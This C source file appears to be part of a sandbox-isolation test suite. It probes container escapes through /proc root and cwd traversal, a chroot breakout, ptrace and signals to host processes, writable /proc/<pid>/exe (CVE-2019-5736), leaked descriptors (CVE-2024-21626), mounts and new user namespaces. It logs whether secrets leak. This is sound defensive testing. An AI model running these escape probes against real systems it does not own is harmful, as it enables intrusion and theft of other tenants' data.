/*
 * Escapes through the filesystem and /proc: other roots, other processes, leaked
 * descriptors, mounts and new namespaces.
 * Part of the attack program: see attack.c for the protocol.
 */
#include "attack.h"

/* ---------------------------------------------------------------- cases */

void try_path_secret(const char *p) { leaks_secret(p); }

void try_proc_root_path(const char *p)
{
    char buf[4200];
    snprintf(buf, sizeof buf, "/proc/1/root%s", p);
    leaks_secret(buf);
    snprintf(buf, sizeof buf, "/proc/self/root%s", p);
    leaks_secret(buf);
    snprintf(buf, sizeof buf, "/proc/1/cwd/../../../../../..%s", p);
    leaks_secret(buf);
}

/* Another site's /home: by its host path, through every visible process's root,
 * and by searching our own mounts for it. */
void case_home_other_site(void)
{
    each("paths", try_path_secret);
    each("paths", try_proc_root_path);
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d))) {
        if (!is_pid(e->d_name))
            continue;
        char p[300];
        snprintf(p, sizeof p, "/proc/%s/root/home/secret", e->d_name);
        if (access(p, F_OK) == 0)
            leaks_secret(p);
    }
    if (d)
        closedir(d);
    leaks_secret("/home/secret");
    leaks_secret("/home/../home/secret");
}

int same_inode(const char *a, const char *b)
{
    struct stat sa, sb;
    if (stat(a, &sa) || stat(b, &sb))
        return 0;
    return sa.st_dev == sb.st_dev && sa.st_ino == sb.st_ino;
}

void proc_root_case(const char *root)
{
    if (same_inode(root, "/"))
        evidence("%s is this sandbox's own root", root);
    else
        escaped("%s is not this sandbox's root", root);
    char p[4200];
    snprintf(p, sizeof p, "%s/../../../../..", root);
    if (!same_inode(p, "/"))
        escaped("%s leads above the sandbox root", p);
    else
        evidence("%s/.. stays at the sandbox root", root);
    each("paths", try_path_secret);
    const char *v = arg("paths");
    if (v) {
        char *copy = strdup(v), *save = NULL;
        for (char *t = strtok_r(copy, ",", &save); t; t = strtok_r(NULL, ",", &save)) {
            snprintf(p, sizeof p, "%s/../../..%s", root, t);
            leaks_secret(p);
        }
        free(copy);
    }
}

void case_proc1_root(void) { proc_root_case("/proc/1/root"); }
void case_proc_self_root(void) { proc_root_case("/proc/self/root"); }

void case_chroot_breakout(void)
{
    struct stat root0;
    stat("/", &root0);
    int pipefd[2];
    if (pipe(pipefd))
        return;
    pid_t pid = fork();
    if (pid == 0) {
        close(pipefd[0]);
        dup2(pipefd[1], 1);
        mkdir("/tmp/jail", 0700);
        if (chroot("/tmp/jail") != 0) {
            printf("evidence: chroot /tmp/jail: %s\n", strerror(errno));
            _exit(0);
        }
        for (int i = 0; i < 64; i++)
            if (chdir("..")) break;
        if (chroot(".")) {
            printf("evidence: chroot .: %s\n", strerror(errno));
        }
        struct stat st;
        stat("/", &st);
        if (st.st_dev != root0.st_dev || st.st_ino != root0.st_ino)
            printf("escaped: chroot + chdir .. reached a root that is not the sandbox's\n");
        else
            printf("evidence: chroot breakout ends at the sandbox's own root\n");
        fflush(stdout);
        _exit(0);
    }
    close(pipefd[1]);
    char buf[1024];
    ssize_t n;
    while ((n = read(pipefd[0], buf, sizeof buf - 1)) > 0) {
        buf[n] = 0;
        fputs(buf, stdout);
        if (strstr(buf, "escaped:"))
            g_escapes++;
    }
    waitpid(pid, NULL, 0);
    rmdir("/tmp/jail");
    each("paths", try_path_secret);
}

void case_see_processes(void)
{
    int own = 0, foreign = 0;
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d))) {
        if (!is_pid(e->d_name))
            continue;
        char p[300], cmd[256];
        snprintf(p, sizeof p, "/proc/%s/cmdline", e->d_name);
        ssize_t n = slurp(p, cmd, sizeof cmd);
        for (ssize_t i = 0; i + 1 < n; i++)
            if (!cmd[i]) cmd[i] = ' ';
        if (n > 0 && (is_platform(cmd) || !same_site(e->d_name))) {
            foreign++;
            escaped("sees a process that is not this site's: pid %s %s", e->d_name, cmd);
        } else {
            own++;
        }
    }
    if (d)
        closedir(d);
    evidence("%d processes visible, %d foreign", own + foreign, foreign);
    if (own + foreign > 64)
        escaped("sees %d processes: more than one sandbox could hold", own + foreign);
}

void try_signal(const char *pid)
{
    int p = atoi(pid);
    char path[64], cmd[256] = "";
    snprintf(path, sizeof path, "/proc/%d/cmdline", p);
    if (kill(p, 0) == 0) {
        if (slurp(path, cmd, sizeof cmd) > 0 && same_site(pid) && !is_platform(cmd))
            evidence("host pid %d names one of our own processes (%s): not the host's", p, cmd);
        else
            escaped("can signal host pid %d (%s)", p, cmd);
    } else {
        evidence("kill(%d, 0): %s", p, strerror(errno));
    }
    int fd = (int)syscall(SYS_pidfd_open, p, 0);
    if (fd >= 0) {
        if (slurp(path, cmd, sizeof cmd) > 0 && same_site(pid) && !is_platform(cmd))
            evidence("pidfd_open(%d) opened one of our own processes", p);
        else
            escaped("pidfd_open(%d) opened a host process", p);
        close(fd);
    }
}

void case_signal_others(void)
{
    each("pids", try_signal);
    /* kill(-1) reaches every process we may signal: count who answers signal 0. */
    denied("kill(-1, 0)", kill(-1, 0));
}

void try_ptrace(const char *pid)
{
    int p = atoi(pid);
    char path[64], cmd[256] = "";
    snprintf(path, sizeof path, "/proc/%d/cmdline", p);
    int own = slurp(path, cmd, sizeof cmd) > 0 && same_site(pid) && !is_platform(cmd);
    if (ptrace(PTRACE_SEIZE, p, 0, 0) == 0) {
        ptrace(PTRACE_DETACH, p, 0, 0);
        if (own)
            evidence("PTRACE_SEIZE %d attached one of our own processes", p);
        else
            escaped("PTRACE_SEIZE attached host pid %d", p);
    } else {
        evidence("PTRACE_SEIZE %d: %s", p, strerror(errno));
    }
    char buf[16];
    struct iovec local = {buf, sizeof buf}, remote = {(void *)0x400000, sizeof buf};
    if (process_vm_readv(p, &local, 1, &remote, 1, 0) >= 0 && !own)
        escaped("process_vm_readv read memory of host pid %d", p);
}

void case_ptrace_others(void) { each("pids", try_ptrace); }

/* CVE-2019-5736: reach a host binary (the runtime) through /proc/<pid>/exe and
 * open it for writing. Every visible process's exe must be a file of our own
 * root filesystem. Nothing is ever written. */
/* Calls fn(pid, "/proc/<pid>/<link>", target) for every visible process whose link
 * resolves. */
static void each_pid_link(const char *link, void (*fn)(const char *, const char *, const char *))
{
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d))) {
        if (!is_pid(e->d_name))
            continue;
        char p[300], target[512];
        snprintf(p, sizeof p, "/proc/%s/%s", e->d_name, link);
        ssize_t n = readlink(p, target, sizeof target - 1);
        if (n < 0)
            continue;
        target[n] = 0;
        fn(e->d_name, p, target);
    }
    if (d)
        closedir(d);
}

static void check_exe(const char *pid, const char *p, const char *target)
{
    struct stat st;
    if (stat(p, &st) != 0)
        return;
    struct stat named;
    int reachable = stat(target, &named) == 0 && named.st_dev == st.st_dev &&
                    named.st_ino == st.st_ino;
    int fd = open(p, O_WRONLY | O_CLOEXEC);
    int werr = fd < 0 ? errno : 0;
    if (fd >= 0)
        close(fd);
    if (!reachable) {
        escaped("pid %s runs %s, a binary outside this sandbox's root (open for write: %s)",
                pid, target, werr ? strerror(werr) : "succeeded");
    } else {
        evidence("pid %s exe %s is in the sandbox root (open for write: %s)", pid, target,
                 werr ? strerror(werr) : "succeeded, own file");
    }
}

void case_proc_exe_overwrite(void)
{
    each_pid_link("exe", check_exe);
    int fd = open("/proc/self/exe", O_WRONLY | O_CLOEXEC);
    evidence("open /proc/self/exe for writing: %s", fd < 0 ? strerror(errno) : "succeeded");
    if (fd >= 0)
        close(fd);
}

/* Leaked host descriptors (CVE-2024-21626): every fd of every visible process must
 * be a pipe, socket, anonymous inode or a file reachable inside the sandbox under its
 * name; a leaked directory is the way out, so try ".." through it. */
static int g_log_noted;

/* Pid 1's stdout/stderr when they are regular files: the log the agent opened for
 * this sandbox. A descriptor to that file is the sandbox's own output. */
int is_own_log(const struct stat *st)
{
    for (int fd = 1; fd <= 2; fd++) {
        char p[64];
        struct stat o;
        snprintf(p, sizeof p, "/proc/1/fd/%d", fd);
        if (stat(p, &o) == 0 && S_ISREG(o.st_mode) && S_ISREG(st->st_mode) &&
            o.st_dev == st->st_dev && o.st_ino == st->st_ino)
            return 1;
    }
    return 0;
}

void check_fds_of(const char *pid)
{
    char dir[300];
    snprintf(dir, sizeof dir, "/proc/%s/fd", pid);
    DIR *d = opendir(dir);
    struct dirent *e;
    int count = 0;
    while (d && (e = readdir(d))) {
        if (!is_pid(e->d_name))
            continue;
        count++;
        char p[600], target[512];
        snprintf(p, sizeof p, "%s/%s", dir, e->d_name);
        ssize_t n = readlink(p, target, sizeof target - 1);
        if (n < 0)
            continue;
        target[n] = 0;
        if (target[0] != '/')
            continue; /* pipe:[..], socket:[..], anon_inode:.. */
        struct stat st, named;
        if (stat(p, &st) != 0)
            continue;
        if (stat(target, &named) == 0 && named.st_dev == st.st_dev && named.st_ino == st.st_ino)
            continue;
        if (strstr(target, "(deleted)"))
            continue;
        if (is_own_log(&st)) {
            if (!g_log_noted++)
                evidence("fds to %s: this sandbox's own stdout/stderr log, a host file opened "
                         "for it by the agent (not a directory)", target);
            continue;
        }
        escaped("pid %s fd %s -> %s is not reachable inside the sandbox (leaked from the host)",
                pid, e->d_name, target);
        if (S_ISDIR(st.st_mode)) {
            char up[700];
            snprintf(up, sizeof up, "%s/../../../../../..", p);
            evidence("through the leaked directory: %s", up);
            const char *v = arg("paths");
            if (v) {
                char *copy = strdup(v), *save = NULL;
                for (char *t = strtok_r(copy, ",", &save); t; t = strtok_r(NULL, ",", &save)) {
                    char q[1400];
                    snprintf(q, sizeof q, "%s%s", up, t);
                    leaks_secret(q);
                }
                free(copy);
            }
        }
    }
    if (d)
        closedir(d);
    if (count)
        evidence("pid %s: %d descriptors checked", pid, count);
}

void case_leaked_fds(void)
{
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d)))
        if (is_pid(e->d_name))
            check_fds_of(e->d_name);
    if (d)
        closedir(d);
    /* Our own fds beyond 0,1,2 (the CGI gets only those). */
    for (int fd = 3; fd < 64; fd++) {
        char p[64], t[256];
        snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
        ssize_t n = readlink(p, t, sizeof t - 1);
        if (n > 0) {
            t[n] = 0;
            evidence("own fd %d -> %s", fd, t);
        }
    }
}

/* Every process's cwd must be reachable inside the sandbox. */
static void check_cwd(const char *pid, const char *p, const char *target)
{
    /* Cases run concurrently: a process that exited since readdir (its cwd no longer
     * resolves) proves nothing either way. */
    struct stat cwd, seen;
    if (stat(p, &cwd) != 0)
        return;
    if (stat(target, &seen) != 0 || cwd.st_dev != seen.st_dev || cwd.st_ino != seen.st_ino)
        escaped("pid %s has cwd %s, outside the sandbox's root", pid, target);
    else
        evidence("pid %s cwd %s is inside", pid, target);
}

void case_cwd_fd(void)
{
    each_pid_link("cwd", check_cwd);
    /* chdir through every descriptor number, then climb. */
    for (int fd = 0; fd < 32; fd++) {
        char p[64];
        snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
        if (chdir(p) != 0)
            continue;
        char cwd[512];
        if (!getcwd(cwd, sizeof cwd))
            escaped("chdir %s: cwd is unreachable (%s): outside the root", p, strerror(errno));
        else
            evidence("chdir %s -> %s", p, cwd);
        if (chdir("/")) {
        }
    }
    /* The same for pid 1's descriptors. */
    for (int fd = 0; fd < 32; fd++) {
        char p[64];
        snprintf(p, sizeof p, "/proc/1/fd/%d", fd);
        if (chdir(p) != 0)
            continue;
        char cwd[512];
        if (!getcwd(cwd, sizeof cwd))
            escaped("chdir %s: cwd is unreachable: outside the root", p);
        if (chdir("/")) {
        }
    }
}

void case_mount(void)
{
    mkdir("/tmp/m", 0700);
    int e = denied("mount tmpfs /tmp/m", mount("tmpfs", "/tmp/m", "tmpfs", 0, "size=1m"));
    if (!e) {
        escaped("mount works: the sandbox holds CAP_SYS_ADMIN over its mounts");
        umount2("/tmp/m", MNT_DETACH);
    }
    e = denied("mount proc /tmp/m", mount("proc", "/tmp/m", "proc", 0, NULL));
    if (!e) {
        escaped("mounted a fresh procfs (unmasked /proc)");
        umount2("/tmp/m", MNT_DETACH);
    }
    e = denied("remount / read-write bind", mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL));
    if (!e)
        escaped("remount of / succeeded");
    rmdir("/tmp/m");
}

void case_umount(void)
{
    /* Unmounting a masked path would reveal the host's /proc/kcore, /proc/keys... */
    const char *masked[] = {"/proc/kcore", "/proc/keys", "/proc/timer_list", "/proc/sched_debug",
                            "/sys/firmware", "/proc/sys", "/proc/sysrq-trigger"};
    for (size_t i = 0; i < sizeof masked / sizeof *masked; i++) {
        char what[128];
        snprintf(what, sizeof what, "umount %s", masked[i]);
        if (!denied(what, umount2(masked[i], MNT_DETACH)))
            escaped("unmounted the mask/read-only mount on %s", masked[i]);
    }
}

void case_pivot_root(void)
{
    mkdir("/tmp/pr", 0700);
    int e = denied("pivot_root(/, /tmp/pr)", syscall(SYS_pivot_root, "/", "/tmp/pr"));
    if (!e)
        escaped("pivot_root succeeded");
    e = denied("pivot_root(., .)", syscall(SYS_pivot_root, ".", "."));
    if (!e)
        escaped("pivot_root succeeded");
    rmdir("/tmp/pr");
}

void write_file(const char *path, const char *s)
{
    int fd = open(path, O_WRONLY);
    if (fd >= 0) {
        if (write(fd, s, strlen(s)) < 0)
            evidence("write %s: %s", path, strerror(errno));
        close(fd);
    }
}

/* unshare(CLONE_NEWUSER) gives full capabilities over new namespaces; they must
 * not reach anything the sandbox could not reach before. */
void case_unshare_userns(void)
{
    int pipefd[2];
    if (pipe(pipefd))
        return;
    pid_t pid = fork();
    if (pid == 0) {
        close(pipefd[0]);
        dup2(pipefd[1], 1);
        uid_t uid = getuid();
        gid_t gid = getgid();
        if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) {
            printf("evidence: unshare(CLONE_NEWUSER|CLONE_NEWNS): %s\n", strerror(errno));
            _exit(0);
        }
        printf("evidence: unshare(CLONE_NEWUSER|CLONE_NEWNS) succeeded\n");
        char m[64];
        write_file("/proc/self/setgroups", "deny");
        snprintf(m, sizeof m, "0 %u 1", uid);
        write_file("/proc/self/uid_map", m);
        snprintf(m, sizeof m, "0 %u 1", gid);
        write_file("/proc/self/gid_map", m);
        /* Masked paths are locked: unmounting them must fail even now. */
        if (umount2("/proc/kcore", MNT_DETACH) == 0)
            printf("escaped: unmounted the mask on /proc/kcore inside a new user namespace\n");
        else
            printf("evidence: umount /proc/kcore in new userns: %s\n", strerror(errno));
        if (mount("none", "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL) == 0)
            printf("escaped: made /proc/sys writable inside a new user namespace\n");
        else
            printf("evidence: remount /proc/sys rw in new userns: %s\n", strerror(errno));
        mkdir("/tmp/u", 0700);
        if (mount("sysfs", "/tmp/u", "sysfs", 0, NULL) == 0) {
            printf("evidence: mounted sysfs inside the new user namespace (own netns view)\n");
            umount2("/tmp/u", MNT_DETACH);
        }
        if (mount("/", "/tmp/u", NULL, MS_BIND | MS_REC, NULL) == 0) {
            struct stat a, b;
            stat("/tmp/u", &a);
            stat("/", &b);
            printf("%s: bind of / in new userns is %s\n",
                   (a.st_ino == b.st_ino && a.st_dev == b.st_dev) ? "evidence" : "escaped",
                   (a.st_ino == b.st_ino && a.st_dev == b.st_dev) ? "the sandbox root" : "another root");
            umount2("/tmp/u", MNT_DETACH);
        }
        rmdir("/tmp/u");
        /* The new namespace's caps must not work on the worker: sethostname in the
         * sandbox's (parent-owned) UTS namespace must fail. */
        if (sethostname("userns-escape", 13) == 0)
            printf("escaped: sethostname worked on a namespace the new userns does not own\n");
        else
            printf("evidence: sethostname from new userns: %s\n", strerror(errno));
        fflush(stdout);
        _exit(0);
    }
    close(pipefd[1]);
    char buf[2048];
    ssize_t n;
    while ((n = read(pipefd[0], buf, sizeof buf - 1)) > 0) {
        buf[n] = 0;
        fputs(buf, stdout);
        for (char *p = buf; (p = strstr(p, "escaped:")); p++)
            g_escapes++;
    }
    waitpid(pid, NULL, 0);
    each("paths", try_path_secret);
}

/* mknod of a device node, then open and read it: the device cgroup must refuse. */
